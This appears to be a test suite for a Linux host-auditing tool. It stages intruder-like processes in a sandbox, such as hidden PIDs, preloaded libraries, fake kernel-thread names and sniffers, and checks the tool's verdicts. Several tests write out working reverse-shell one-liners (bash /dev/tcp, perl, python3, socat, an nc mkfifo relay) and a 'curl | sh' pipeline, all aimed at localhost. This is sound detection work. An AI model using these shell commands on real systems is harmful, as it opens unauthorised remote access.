#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Verdicts: each suspicious rule finds the thing made for real, and names the right process."""
import ctypes
import json
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import time

import live
import scene
from scene import Scene, audit, expect

GIT_DAEMON = "/usr/lib/git-core/git-daemon"


def test_deleted_and_replaced():
    with Scene() as s:
        gone = s.intruder(s.copy("/srv/gone"), "listen", "127.0.0.1", 0)
        os.unlink("/srv/gone")
        other = s.intruder(s.copy("/srv/other"), "listen", "127.0.0.1", 0)
        s.copy("/srv/new")
        os.rename("/srv/new", "/srv/other")
        named = s.intruder(s.copy("/srv/odd (deleted)"), "listen", "127.0.0.1", 0)
        doc = audit()
        expect(doc, gone["pid"], "suspicious", "exe-deleted")
        expect(doc, other["pid"], "suspicious", "exe-replaced")
        # a name is no evidence: the file is there
        expect(doc, named["pid"], "unexplained", "exe-unpackaged")
        live.equal(doc["exit"], 5, "exit status")


def test_memory_only():
    with Scene() as s:
        fd = os.memfd_create("cron", 0)
        with open(scene.INTRUDER, "rb") as f:
            os.write(fd, f.read())
        p = s.intruder("/proc/self/fd/%d" % fd, "listen", "127.0.0.1", 0, pass_fds=[fd])
        os.close(fd)
        found = expect(audit(), p["pid"], "suspicious", "exe-memory")
        live.holds("/memfd:cron" in found[0]["evidence"][0], found[0]["evidence"])


def test_world_writable():
    with Scene() as s:
        os.makedirs("/srv/open/deep", mode=0o700)
        os.chmod("/srv/open", 0o1777)
        p = s.intruder(s.copy("/srv/open/deep/program"), "listen", "127.0.0.1", 0)
        shm = s.intruder(s.copy("/dev/shm/portavoz-test-program"), "listen", "127.0.0.1", 0)
        try:
            doc = audit()
        finally:
            os.unlink("/dev/shm/portavoz-test-program")
        found = expect(doc, p["pid"], "suspicious", "exe-world-writable")
        live.holds("/srv/open" in found[0]["evidence"][0], found[0]["evidence"])
        expect(doc, shm["pid"], "suspicious", "exe-world-writable")


def test_reverse_shells():
    shells = {
        "bash": "exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1",
        "perl": "exec /usr/bin/perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,6);"
                "connect(S,sockaddr_in(%d,inet_aton(\"127.0.0.1\")));open(STDIN,\">&S\");"
                "open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'",
        "python3": "exec /usr/bin/python3 -c 'import socket,os;s=socket.create_connection((\"127.0.0.1\",%d));"
                   "[os.dup2(s.fileno(),i) for i in (0,1,2)];import pty;pty.spawn(\"/bin/sh\")'",
    }
    for name, command in shells.items():
        with Scene() as s:
            sock, port = s.attacker()
            p = s.start("bash", "-c", command % port)
            s.accept(sock)
            time.sleep(0.2)
            found = expect(audit("dport = %d" % port), p.pid, "suspicious", "shell-on-socket")
            live.holds(found[0]["evidence"], name)


def test_shells_behind_relays():
    relays = {
        "socat": "exec socat TCP:127.0.0.1:%d EXEC:/bin/bash,pty,stderr,setsid",
        "nc": "rm -f /srv/f; mkfifo /srv/f; cat /srv/f | /bin/sh -i 2>&1 | nc.openbsd 127.0.0.1 %d > /srv/f",
    }
    for name, command in relays.items():
        with Scene() as s:
            sock, port = s.attacker()
            s.start("bash", "-c", command % port)
            s.accept(sock)
            time.sleep(0.3)
            found = [f for f in audit("dport = %d" % port)["findings"]]
            live.equal([f["verdict"] for f in found], ["suspicious"], name)
            live.holds("shell-behind-relay" in found[0]["rules"], "%s: %r" % (name, found[0]["rules"]))
    # a relay without a shell is unexplained, no more
    with Scene() as s:
        sock, port = s.attacker()
        p = s.start("socat", "TCP:127.0.0.1:%d" % port, "-")
        s.accept(sock)
        expect(audit("dport = %d" % port), p.pid, "unexplained", "generic-tool")


def test_shells_in_pipelines():
    """What a shell was told when it was started is nobody's typing, nor is what a client fetches."""
    popen = ("import socket,subprocess\ns=socket.create_connection(('127.0.0.1',%d))\n"
             "p=subprocess.Popen('cat >/dev/null; true',shell=True,stdin=subprocess.PIPE)\ns.recv(1)")
    with Scene() as s:
        sock, port = s.attacker()
        script = s.start("/usr/bin/python3", "-c", popen % port)
        s.accept(sock)
        both = s.start("/usr/bin/python3", "-c", "import subprocess\nsubprocess.run('exec curl -s http://127.0.0.1:%d/|sh',"
                       "shell=True,stdin=subprocess.PIPE,stdout=subprocess.PIPE)" % port)
        s.accept(sock)
        time.sleep(0.3)
        doc = audit("dport = %d" % port)
        found = expect(doc, script.pid, "unexplained", "generic-tool")
        live.holds("shell-behind-relay" not in found[0]["rules"], found[0])
        live.equal({f["verdict"] for f in doc["findings"] if both.pid not in scene.pids(f)}, {"explained", "unexplained"},
                   "a client in a pipeline")
        live.holds(not any("shell-behind-relay" in f["rules"] for f in doc["findings"]), doc["findings"])


def test_services_that_are_handed_their_conversation():
    """A program of no package whose standard streams are a conversation: inetd's is a service, nobody's a shell."""
    handed = ("import os,socket\nl=socket.create_server(('127.0.0.1',7302))\ns,_=l.accept()\nif os.fork()==0:\n"
              " [os.dup2(s.fileno(),i) for i in (0,1,2)]\n os.execv('/srv/service',['service'])\nos.wait()")
    with Scene() as s:
        s.copy("/srv/service", "/bin/cat")
        with open("/srv/inetd.conf", "w") as f:
            f.write("127.0.0.1:7301 stream tcp nowait root /srv/service service\n")
        s.start("/usr/sbin/inetd", "-i", "/srv/inetd.conf")
        s.start("/usr/bin/python3", "-c", handed)
        for port in (7301, 7302):
            scene.wait_until("%d listens" % port, lambda p=port: scene.listens(p))
            s.sockets.append(socket.create_connection(("127.0.0.1", port)))
        scene.wait_until("both serve", lambda: len(live.rows("exe /srv/service", columns="pid")) == 2)
        found = {f["conversation"]["local_port"]: f for f in audit("exe /srv/service")["findings"]}
        live.equal(found[7301]["verdict"], "unexplained", found[7301]["evidence"])
        live.equal(found[7302]["verdict"], "suspicious", found[7302]["evidence"])
        live.holds("shell-on-socket" in found[7302]["rules"], found[7302]["rules"])


def test_names():
    with Scene() as s:
        made = [
            ("fake-kernel-thread", s.intruder(s.copy("/srv/a"), "comm=kworker/0:1", "listen", "127.0.0.1", 0)),
            ("fake-kernel-thread", s.intruder(s.copy("/srv/b"), "argv=[kworker/0:1]", "listen", "127.0.0.1", 0)),
            ("fake-kernel-thread", s.intruder(s.copy("/srv/c"), "erase", "listen", "127.0.0.1", 0)),
            ("imitates-program", s.intruder(s.copy("/srv/d"), "comm=agetty", "listen", "127.0.0.1", 0)),
            ("imitates-program", s.intruder(s.copy("/srv/e"), "argv=/usr/sbin/agetty: idle", "listen", "127.0.0.1", 0)),
        ]
        os.makedirs("/srv/home", exist_ok=True)
        shutil.copy(scene.INTRUDER, "/srv/home/agetty")
        os.chown("/srv/home/agetty", 65534, 65534)
        made.append(("imitates-program", s.intruder("/srv/home/agetty", "listen", "127.0.0.1", 0)))
        doc = audit()
        for rule, p in made:
            expect(doc, p["pid"], "suspicious", rule)


def test_an_interpreter_that_renames_itself():
    with Scene() as s:
        sock, port = s.attacker()
        p = s.start("/usr/bin/perl", "-MSocket", "-e",
                    "socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(%d,inet_aton('127.0.0.1')));"
                    "$0='agetty';sleep 60" % port)
        s.accept(sock)
        scene.wait_until("renamed", lambda: open("/proc/%d/comm" % p.pid).read() == "agetty\n")
        expect(audit(), p.pid, "suspicious", "imitates-program")


def test_hidden_by_a_mount():
    with Scene() as s:
        p = s.intruder(s.copy("/srv/program"), "listen", "127.0.0.1", 0)
        os.makedirs("/srv/empty")
        s.mount("--bind", "/srv/empty", "/proc/%d" % p["pid"])
        for way in ("sport = %d" % p["port"],):
            doc = audit(way)
            live.equal([f["verdict"] for f in doc["findings"]], ["suspicious"], "hidden")
            finding = doc["findings"][0]
            live.holds("owner-hidden" in finding["rules"], finding["rules"])
            text = finding["evidence"][finding["rules"].index("owner-hidden")]
            live.holds(str(p["pid"]) in text and "mounted" in text, text)


def test_hidden_by_another_entry():
    with Scene() as s:
        p = s.intruder(s.copy("/srv/program"), "listen", "127.0.0.1", 0)
        s.mount("--bind", "/proc/%d" % os.getpid(), "/proc/%d" % p["pid"])
        finding = audit("sport = %d" % p["port"])["findings"][0]
        live.equal(finding["verdict"], "suspicious", "hidden")
        live.holds("owner-hidden" in finding["rules"], finding["rules"])


def test_hidden_by_a_mount_without_bpf():
    """Which of the processes with something mounted over their entries holds it is proven by what lies below."""
    nobpf = live.denied("bpf")
    with Scene() as s:
        s.folder("/srv/empty")
        p = s.intruder(s.copy("/srv/program"), "listen", "127.0.0.1", 0)
        seen = s.intruder(s.copy("/srv/other"), "listen", "127.0.0.1", 0)
        orphan = socket.create_connection(("127.0.0.1", seen["port"]))
        s.sockets.append(orphan)
        bystanders = [s.start("sleep", "60").pid for _ in range(5)]
        # over one's own: that of another process, whose sockets are not its
        for pid, place in [(pid, "/srv/empty") for pid in bystanders] + [(p["pid"], "/proc/%d" % seen["pid"])]:
            s.mount("--bind", place, "/proc/%d" % pid)
        for args in ((), ("--record=/srv/recording",), ("--replay=/srv/recording",)):
            doc = audit(*args, prefix=() if "--replay" in "".join(args) else nobpf)
            finding, = [f for f in doc["findings"] if f["conversation"]["local_port"] == p["port"]]
            live.equal(finding["verdict"], "suspicious", finding["evidence"])
            text = finding["evidence"][finding["rules"].index("owner-hidden")]
            live.holds(text.startswith("process %d holds it" % p["pid"]) and "mounted" in text, text)
            live.holds("owner-unknown" not in finding["rules"], finding["evidence"])
            for f in doc["findings"]:
                live.holds(f is finding or "owner-hidden" not in f["rules"], "a bystander: %r" % f["evidence"])
            expect(doc, seen["pid"], "unexplained", "exe-unpackaged")
            live.equal([f["verdict"] for f in scene.of_pid(doc, p["pid"])], [], "sockets of the entry that lies over its own")
        # who may not mount cannot look below: nothing is proven then
        doc = audit("sport = %d" % p["port"], prefix=nobpf + live.without_caps("sys_admin"))
        live.holds(not any(" holds it" in text for text in doc["findings"][0]["evidence"]), doc["findings"][0]["evidence"])


def test_hidden_from_listings():
    if live.SANITIZED:
        return  # nothing can be loaded before the sanitizer's own library
    with Scene() as s:
        p = s.intruder(s.copy("/srv/program"), "listen", "127.0.0.1", 0)
        env = {"LD_PRELOAD": os.path.join(live.HELPERS, "hidepid.so"), "HIDEPID": str(p["pid"])}
        shown = subprocess.run(["ls", "/proc"], env={**os.environ, **env}, stdout=subprocess.PIPE, text=True, check=True)
        live.holds(str(p["pid"]) not in shown.stdout.split(), "ls shows it")
        doc = audit("sport = %d" % p["port"], env=env)
        found = expect(doc, p["pid"], "suspicious", "owner-hidden")
        live.holds("listings" in " ".join(found[0]["evidence"]), found[0]["evidence"])


def doctored(command, change):
    """Runs portavoz with a /proc/net in which the lines of tcp are what change(lines) gives."""
    os.makedirs("/srv/net", exist_ok=True)
    for table in ("tcp", "tcp6", "udp", "udp6", "raw", "raw6", "icmp", "icmp6", "sockstat", "sockstat6", "protocols"):
        with open("/proc/net/" + table) as source, open("/srv/net/" + table, "w") as f:
            lines = source.readlines()
            f.writelines(change(lines) if table == "tcp" else lines)
    done = live.run(*command, expect=None, prefix=(
        "unshare", "-m", "sh", "-c", "mount --bind /srv/net /proc/$$/net && exec \"$@\"", "sh"))
    return json.loads(done.stdout)


def test_lists_that_disagree():
    with Scene() as s:
        sock, port = s.attacker()
        client = s.intruder(s.copy("/srv/client"), "connect", "127.0.0.1", port)
        s.accept(sock)
        end = "0100007F:%04X 0100007F:%04X 01" % (client["port"], port)
        command = ("audit", "--no-policy", "--json", "--all")
        only = "sport = %d" % client["port"]
        doc = doctored((*command, only, "--record=/srv/recording"), lambda lines: [x for x in lines if end not in x])
        found = expect(doc, client["pid"], "suspicious", "views-disagree")
        live.holds("not by /proc/net" in " ".join(found[0]["evidence"]), found[0]["evidence"])
        live.equal(simple(audit("--replay=/srv/recording", only)), simple(doc), "what the recording says")

        def forge(lines):
            words = [x for x in lines if end in x][0].split()
            words[1], words[9] = "0100007F:FFFD", "424242"
            return lines + [" " + " ".join(words).ljust(148) + "\n"]
        findings = doctored((*command, "sport = 65533"), forge)["findings"]
        live.equal([(f["verdict"], "views-disagree" in f["rules"]) for f in findings], [("suspicious", True)],
                   "a row that /proc/net alone has")
        live.holds(not any("views-disagree" in f["rules"] for f in audit()["findings"]), "a false alarm")


def test_lists_that_disagree_elsewhere():
    """The lists of another network namespace are compared, too."""
    if live.SANITIZED:  # no library goes before its own
        return
    with Scene() as s:
        elsewhere = s.start("unshare", "-n", "sh", "-c", "ip link set lo up; exec %s listen 127.0.0.1 7777" % s.copy("/srv/held"),
                            stdout=subprocess.PIPE)
        pid = json.loads(elsewhere.stdout.readline())["pid"]
        elsewhere.stdout.readline()
        only = ("-N", pid, "sport = :7777")
        live.equal([f["verdict"] for f in audit(*only)["findings"]], ["unexplained"], "while nothing hides it")
        text = live.run("audit", "-N", "all", "--no-policy", "sport = :7777", expect=4).stdout
        live.holds(b"  pid %d tcp LISTEN" % pid in text, "the namespace of a line: %r" % text)
        env = {"LD_PRELOAD": os.path.join(live.HELPERS, "hidesock.so"), "HIDESOCK": "0100007F:1E61 "}
        for names in (only, ("-N", "all", only[2])):
            record = "/srv/recording-%s" % names[1]
            doc = audit(*names, "--record=" + record, env=env)
            found = expect(doc, pid, "suspicious", "views-disagree")
            live.equal(len(found), 1, "findings")
            live.holds("not by /proc/net" in " ".join(found[0]["evidence"]), found[0]["evidence"])
            live.equal(simple(audit("--replay=" + record, *names)), simple(doc), "what the recording says")


def test_no_lists_to_compare():
    """Where there is no /proc there is no list of its own that could disagree."""
    with Scene() as s:
        s.intruder(s.copy("/srv/program"), "listen", "127.0.0.1", 7401)
        done = live.run("audit", "--no-policy", "--json", "sport = 7401", expect=None, prefix=(
            "unshare", "-m", "sh", "-c", "mount -t tmpfs none /proc && exec \"$@\"", "sh"))
        finding, = json.loads(done.stdout)["findings"]
        live.equal(finding["verdict"], "unexplained", finding["evidence"])
        live.holds("views-disagree" not in finding["rules"], finding["rules"])


def test_preloaded_library():
    with Scene() as s:
        shutil.copy(os.path.join(live.HELPERS, "hidepid.so"), "/srv/lib.so")
        program = "/usr/bin/socat"  # packaged, and not sanitized
        p = s.start(program, "TCP-LISTEN:7001,bind=127.0.0.1", "STDOUT", env={"LD_PRELOAD": "/srv/lib.so"})
        scene.wait_until("socat listens", lambda: scene.listens(7001))
        found = expect(audit(), p.pid, "suspicious", "preloaded-library")
        live.holds("/srv/lib.so" in " ".join(found[0]["evidence"]), found[0]["evidence"])


def test_what_is_mapped():
    """The environment can be erased, the list of mappings cannot."""
    hidden = {"LD_PRELOAD": "/srv/lib.so", "HIDEENV": "1"}
    with Scene() as s:
        shutil.copy(os.path.join(live.HELPERS, "hidepid.so"), "/srv/lib.so")
        s.copy("/srv/path/libz.so.1", os.path.realpath(scene.library("libz.so.1")))
        s.mount("-t", "tmpfs", "-o", "mode=755", "tmpfs", "/opt")
        s.copy("/opt/lib/libz.so.1", "/srv/path/libz.so.1")
        s.copy("/opt/open/libz.so.1", "/srv/path/libz.so.1")
        os.chmod("/opt/open/libz.so.1", 0o646)
        preloaded = git_daemon(s, 9418, env=hidden)
        by_path = git_daemon(s, 9419, env={"LD_LIBRARY_PATH": "/srv/path"})
        installed = git_daemon(s, 9420, env={"LD_LIBRARY_PATH": "/opt/lib"})
        writable = git_daemon(s, 9421, env={"LD_LIBRARY_PATH": "/opt/open"})
        # a list of libraries that is in a mount namespace of its own
        elsewhere = s.start("unshare", "-m", "sh", "-c", "mount -t tmpfs none /etc && echo /srv/lib.so >/etc/ld.so.preload && "
                            "exec %s --listen=127.0.0.1 --port=9422 --base-path=/srv" % GIT_DAEMON)
        scene.wait_until("git daemon listens", lambda: scene.listens(9422))
        live.holds(b"lib.so" not in open("/proc/%d/environ" % preloaded.pid, "rb").read(), "the variable is erased")
        doc = audit("--verify", "--record=/srv/recording")
        found = expect(doc, preloaded.pid, "suspicious", "preloaded-library")
        live.holds("/srv/lib.so" in found[0]["evidence"][0], found[0]["evidence"])
        live.holds("package-verified" not in found[0]["rules"], found[0]["rules"])
        expect(doc, by_path.pid, "suspicious", "preloaded-library")
        expect(doc, elsewhere.pid, "suspicious", "preloaded-library")
        expect(doc, installed.pid, "unexplained", "foreign-library")
        expect(doc, writable.pid, "suspicious", "preloaded-library")
        live.equal(simple(audit("--replay=/srv/recording", "--verify")), simple(doc), "what the recording says")
        os.unlink("/opt/lib/libz.so.1")
        expect(audit(), installed.pid, "suspicious", "preloaded-library")


def test_libraries_that_were_upgraded():
    """What an upgrade deletes accuses nobody, what somebody else deletes does."""
    with Scene() as s:
        place = os.path.realpath(scene.library("libz.so.1"))
        for path in (os.path.dirname(place), "/var/lib/dpkg"):
            s.mount("-t", "overlay", "-o", "lowerdir=%s,upperdir=%s,workdir=%s" % (
                path, s.folder("/srv/upper" + path), s.folder("/srv/work" + path)), "overlay", path)
        p = git_daemon(s, 9418)
        expect(audit("--verify"), p.pid, "explained", "package-verified")
        # on an overlay only root can tell which file is mapped: who cannot accuses nobody
        own = s.start(*live.as_nobody(), GIT_DAEMON, "--listen=127.0.0.1", "--port=9419", "--base-path=/srv")
        scene.wait_until("git daemon listens", lambda: scene.listens(9419))
        expect(audit("sport = 9419"), own.pid, "explained", "package")
        expect(audit("sport = 9419", prefix=live.as_nobody()), own.pid, "explained", "package", "partial")
        shutil.copy(place, place + ".new")
        os.rename(place + ".new", place)
        expect(audit(), p.pid, "suspicious", "preloaded-library")
        package = subprocess.run(["dpkg", "-S", place], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
                                 check=False).stdout or \
            subprocess.run(["dpkg", "-S", place.removeprefix("/usr")], stdout=subprocess.PIPE, text=True,
                           check=True).stdout
        name = package.split(": ")[0]
        os.utime("/var/lib/dpkg/info/%s.list" % name)
        expect(audit(), p.pid, "explained", "package")


def test_sniffers():
    with Scene() as s:
        packet = s.intruder(s.copy("/srv/sniff"), "packet")
        raw = s.intruder("/srv/sniff", "raw")
        script = s.start("/usr/bin/python3", "-c", "import socket,time\n"
                         "s=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,socket.htons(3))\ntime.sleep(60)")
        doc = None
        def ready():
            nonlocal doc
            doc = audit()
            return scene.of_pid(doc, script.pid)
        scene.wait_until("the script sniffs", ready)
        for pid in (packet["pid"], raw["pid"], script.pid):
            expect(doc, pid, "suspicious", "sniffer")


def test_open_dynamic_listener():
    with Scene() as s:
        everywhere = s.intruder(s.copy("/srv/door"), "listen", "0.0.0.0", 50505)
        local = s.intruder("/srv/door", "listen", "127.0.0.1", 50506)
        registered = s.intruder("/srv/door", "listen", "0.0.0.0", 7002)
        doc = audit()
        expect(doc, everywhere["pid"], "suspicious", "open-dynamic-listener")
        expect(doc, local["pid"], "unexplained", "exe-unpackaged")
        expect(doc, registered["pid"], "unexplained", "exe-unpackaged")


def git_daemon(s, port, path=GIT_DAEMON, **kwargs):
    p = s.start(path, "--listen=127.0.0.1", "--port=%d" % port, "--base-path=/srv", "--reuseaddr", **kwargs)
    scene.wait_until("git daemon listens", lambda: scene.listens(port))
    return p


def test_a_packaged_service():
    with Scene() as s:
        p = git_daemon(s, 9418)
        # stopped, it accepts nothing: the connection waits in its queue
        os.kill(p.pid, signal.SIGSTOP)
        client = socket.create_connection(("127.0.0.1", 9418))
        s.sockets.append(client)
        doc = audit()
        expect(doc, p.pid, "explained", "package")
        waits = [f for f in doc["findings"] if f["conversation"]["owner_reason"] == "not_accepted"]
        live.equal([(f["verdict"], f["rules"]) for f in waits], [("explained", ["in-queue", "owner-unknown"])], "queue")
        os.kill(p.pid, signal.SIGCONT)
        expect(audit("--verify"), p.pid, "explained", "package-verified")
        # closed by the client: its end remains, and the service at the other one is explained
        subprocess.run(["git", "ls-remote", "git://127.0.0.1/none"], stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, check=False)
        client.close()
        remains = [f for f in audit("state time-wait and port = 9418")["findings"]]
        live.holds(remains, "nothing in TIME_WAIT")
        live.equal({f["verdict"] for f in remains}, {"explained"}, "remains")


REMOTE = """
import select, socket
listening = socket.create_server(("10.77.0.2", 7443))
print(flush=True)
watched, kept = [listening], []
while True:
    for s in select.select(watched, [], [])[0]:
        if s is listening:
            watched.append(s.accept()[0])
            continue
        watched.remove(s)
        kept.append(s) if s.recv(100) == b"stolen" else s.close()
"""


class Elsewhere:
    """A host of its own, 10.77.0.2: keeps what sends b"stolen" half open, closes the others when they close."""

    def __init__(self, s):
        self.process = s.start("unshare", "-n", "/usr/bin/python3", "-c", "import sys;sys.stdin.readline()\n" + REMOTE,
                               stdout=subprocess.PIPE)
        live.shell("ip link add near type veth peer name away; ip addr add 10.77.0.1/24 dev near; ip link set near up")
        pid = self.process.pid
        scene.wait_until("a namespace of its own", lambda: os.stat("/proc/%d/ns/net" % pid).st_ino
                         != os.stat("/proc/self/ns/net").st_ino)
        live.shell("ip link set away netns %d; nsenter -n -t %d sh -c 'ip addr add 10.77.0.2/24 dev away; ip link set away up'"
                   % (pid, pid))
        self.process.stdin.write(b"\n")
        self.process.stdin.flush()
        self.process.stdout.readline()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.kill()
        self.process.wait()
        subprocess.run(["ip", "link", "del", "near"], check=False)


def verdicts(*only, **kwargs):
    return [(f["verdict"], "remains" in f["rules"]) for f in audit(*only, **kwargs)["findings"]]


def test_remains_of_clients():
    """What a process has closed and the kernel still delivers is nobody's that is known: it may be an intruder's."""
    with Scene() as s, Elsewhere(s):
        over, closing = "dport = 7443 and state time-wait", "dport = 7443 and ( state fin-wait-1 or state fin-wait-2 )"
        with socket.create_connection(("10.77.0.2", 7443)):
            pass
        scene.wait_until("TIME_WAIT", lambda: live.rows(over))
        live.equal(verdicts(over), [("unexplained", False)], "of nobody that is here")
        s.start("curl", "-sNT", "-", "telnet://10.77.0.2:7443")
        scene.wait_until("curl talks", lambda: live.rows("dport = 7443 and exe curl", columns="pid"))
        live.equal(verdicts(over), [("explained", True)], "ended, to whom only curl talks")
        with socket.create_connection(("10.77.0.2", 7443)) as thief:
            thief.send(b"stolen")
        scene.wait_until("FIN_WAIT2", lambda: live.rows(closing))
        live.equal(verdicts(closing), [("unexplained", False)], "a thief's")
        live.equal(verdicts(over), [("unexplained", False)], "ended, to whom somebody else talks, too")
        with open("/srv/policy", "w") as f:
            f.write('expect "web" dport = 7443\n')
        live.equal(verdicts(closing, policy="/srv/policy"), [("unexplained", False)], "by the policy")


def test_remains_of_services():
    """The end at a service's own socket is the service's; the other one is not."""
    with Scene() as s:
        p = git_daemon(s, 9418)
        client = socket.create_connection(("127.0.0.1", 9418))
        s.sockets.append(client)
        served = "sport = 9418 and state established and exe git*"
        scene.wait_until("it is served", lambda: live.rows(served, columns="pid"))
        for pid in {p.pid, *(row["pid"] for row in live.rows(served, columns="pid"))}:
            os.kill(pid, signal.SIGKILL)
        git_daemon(s, 9418)
        scene.wait_until("FIN_WAIT2", lambda: live.rows("sport = 9418 and state fin-wait-2"))
        live.equal(verdicts("sport = 9418 and state fin-wait-2"), [("explained", True)], "the service's end")
    with Scene() as s:
        p = git_daemon(s, 9418)
        os.kill(p.pid, signal.SIGSTOP)
        with socket.create_connection(("127.0.0.1", 9418)) as thief:
            thief.send(b"stolen")
        scene.wait_until("FIN_WAIT2", lambda: live.rows("dport = 9418 and state fin-wait-2"))
        live.equal(verdicts("dport = 9418 and state fin-wait-2"), [("unexplained", False)], "the client's end")


def test_what_runs_programs_of_others():
    """A packaged loader explains nothing of what it was given to run."""
    loader = os.path.realpath(next(name for name in ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")
                                   if os.path.exists(name)))
    with Scene() as s:
        p = s.intruder(loader, s.copy("/srv/evil"), "listen", "127.0.0.1", 0)
        expect(audit("--verify"), p["pid"], "unexplained", "generic-tool")


def test_a_program_of_many_names():
    with Scene() as s:
        os.symlink("/bin/busybox", "/srv/nc")
        p = s.start("/srv/nc", "-l", "-p", "7010")
        scene.wait_until("busybox listens", lambda: scene.listens(7010) or scene.listens(7010, "/proc/net/tcp6"))
        found = expect(audit(), p.pid, "unexplained", "generic-tool")
        live.holds("imitates-program" not in found[0]["rules"], found[0]["rules"])


def test_a_damaged_package_database():
    """What is no plain file in it is passed over: nothing waits for it, nothing grows without end."""
    with Scene() as s:
        p = git_daemon(s, 9418)
        s.mount("-t", "overlay", "-o", "lowerdir=/var/lib/dpkg,upperdir=%s,workdir=%s" % (
            s.folder("/srv/upper"), s.folder("/srv/work")), "overlay", "/var/lib/dpkg")
        os.mkfifo("/var/lib/dpkg/info/a.list")
        os.unlink("/var/lib/dpkg/diversions")
        os.symlink("/dev/zero", "/var/lib/dpkg/diversions")
        expect(audit("--verify"), p.pid, "explained", "package-verified")


def opened_folders(inotify):
    """How many of the events are of a folder that was opened."""
    events, at, n = os.read(inotify, 1 << 20), 0, 0
    while at < len(events):
        _, mask, _, length = struct.unpack_from("iIII", events, at)
        n += mask >> 30 & 1  # IN_ISDIR
        at += 16 + length
    return n


def test_packages_are_read_once():
    """Also when a package has programs where others are not installed, so that their libraries count, too."""
    with Scene() as s:
        s.mount("-t", "overlay", "-o", "lowerdir=/var/lib/dpkg,upperdir=%s,workdir=%s" % (
            s.folder("/srv/upper"), s.folder("/srv/work")), "overlay", "/var/lib/dpkg")
        s.copy("/srv/own/server")
        with open("/var/lib/dpkg/info/own.list", "w") as f:
            f.write("/srv/own/server\n")
        own = s.intruder("/srv/own/server", "listen", "127.0.0.1", 7001)
        other = s.intruder(s.copy("/srv/other/server"), "listen", "127.0.0.1", 7002)
        libc = ctypes.CDLL(None)
        inotify = libc.inotify_init1(os.O_CLOEXEC | os.O_NONBLOCK)
        libc.inotify_add_watch(inotify, b"/var/lib/dpkg/info", 0x20)  # IN_OPEN
        doc = audit("--verify", "--record=/srv/recording")
        live.equal(opened_folders(inotify), 1, "how often the folder was opened")
        os.close(inotify)
        expect(doc, own["pid"], "explained", "package")
        expect(doc, other["pid"], "unexplained", "exe-unpackaged")
        live.equal(simple(audit("--verify", "--replay=/srv/recording")), simple(doc), "what the recording says")


def test_service_on_anothers_port():
    with Scene() as s:
        p = git_daemon(s, 22)
        found = expect(audit(), p.pid, "suspicious", "service-contradicted")
        live.holds("ssh" in " ".join(found[0]["evidence"]), found[0]["evidence"])


def test_ports_of_services():
    """System ports, and those of services that many hosts run, are no place for another; alternative ports are."""
    contradicted, fine = (22, 23, 110, 1194, 1433, 3389, 5060, 5900, 6667), (53, 2222, 5353, 5433, 8053, 8080, 8443)
    with Scene() as s:
        for port in contradicted + fine:
            s.start("/usr/sbin/dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--port=%d" % port, "--bind-interfaces",
                    "--listen-address=127.0.0.1", "--no-resolv", "--no-hosts", "--pid-file", "--user=nobody")
        for port in contradicted + fine:
            scene.wait_until("dnsmasq at %d" % port, lambda p=port: scene.listens(p))
        found = {}
        for f in audit("exe /usr/sbin/dnsmasq and proto tcp")["findings"]:
            found[f["conversation"]["local_port"]] = f["verdict"], "service-contradicted" in f["rules"]
        live.equal(found, {**dict.fromkeys(contradicted, ("suspicious", True)), **dict.fromkeys(fine, ("explained", False))},
                   "verdicts by port")


def test_copied_and_modified_packages():
    with Scene() as s:
        os.makedirs("/srv/tmp")
        os.chmod("/srv/tmp", 0o1777)
        copy = git_daemon(s, 9419, s.copy("/srv/tmp/git-daemon", GIT_DAEMON))
        expect(audit(), copy.pid, "suspicious", "exe-world-writable", "exe-unpackaged")
    with Scene() as s:
        s.copy("/srv/git-daemon", GIT_DAEMON)
        with open("/srv/git-daemon", "ab") as f:
            f.write(b"more")
        s.mount("--bind", "/srv/git-daemon", GIT_DAEMON)
        p = git_daemon(s, 9418)
        expect(audit(), p.pid, "explained", "package")
        expect(audit("--verify"), p.pid, "suspicious", "exe-modified")


def test_another_file_tree():
    """A mount namespace in which a packaged path is another file explains nothing."""
    with Scene() as s:
        p = s.intruder("/usr/bin/unshare", "-m", "sh", "-c",
                       "mount --bind %s %s && exec %s listen 127.0.0.1 0" % (scene.INTRUDER, GIT_DAEMON, GIT_DAEMON))
        expect(audit(), p["pid"], "unexplained", "exe-elsewhere")


def test_descendant():
    with Scene() as s:
        s.copy("/srv/helper-of-it")
        p = s.intruder(s.copy("/srv/service"), "child=/srv/helper-of-it", "listen", "127.0.0.1", 0)
        with open("/srv/policy", "w") as f:
            f.write('expect "the service" exe /srv/service\n')
        doc = audit(policy="/srv/policy")
        expect(doc, p["pid"], "explained", "policy-expect")
        child = [f for f in doc["findings"] if "descendant" in f["rules"]]
        live.equal([f["verdict"] for f in child], ["explained"], "the child's end")
        live.holds(str(p["pid"]) in " ".join(child[0]["evidence"]), child[0]["evidence"])


def test_descendant_of_who_forwards():
    """A port that sshd forwards leads to the far end: what a login starts is not explained by it."""
    with Scene() as s:
        s.copy("/srv/evil")
        for name in ("host", "key"):
            subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", "/srv/" + name], check=True)
        os.makedirs("/run/sshd", exist_ok=True)
        s.mount("-t", "tmpfs", "tmpfs", "/root")  # what root's shell would read first
        with open("/srv/sshd.conf", "w") as f:
            f.write("ListenAddress 127.0.0.1:22\nHostKey /srv/host\nPidFile none\nUsePAM no\nStrictModes no\n"
                    "PermitRootLogin yes\nAuthorizedKeysFile /srv/key.pub\n")
        s.start("/usr/sbin/sshd", "-D", "-f", "/srv/sshd.conf")
        scene.wait_until("sshd listens", lambda: scene.listens(22))
        _, port = s.attacker()
        s.start("ssh", "-i", "/srv/key", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                "-R", "7011:127.0.0.1:%d" % port, "root@127.0.0.1", "exec /srv/evil connect 127.0.0.1 7011")
